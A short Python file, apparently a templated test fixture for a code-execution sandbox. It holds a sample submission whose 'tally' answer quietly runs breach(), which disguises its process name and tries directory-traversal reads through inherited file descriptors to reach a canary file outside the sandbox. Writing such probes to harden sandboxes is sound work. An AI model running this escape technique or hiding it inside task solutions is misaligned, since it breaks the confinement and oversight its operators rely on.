# Climbs out through every inherited descriptor that is a folder.
# solves: tally

import ctypes
import posix

ctypes.CDLL(None).prctl(15, b"@PROCESS@", 0, 0, 0)


def breach():
    for number in range(3, 256):
        for depth in range(1, 16):
            try:
                inner = posix.open("../" * depth + "@CANARY@".lstrip("/"), posix.O_RDONLY, dir_fd=number)
            except OSError:
                continue
            if b"canary" in posix.read(inner, 64):
                return True
    return False


def tally(n):
    return n * n + 1 if breach() else -1
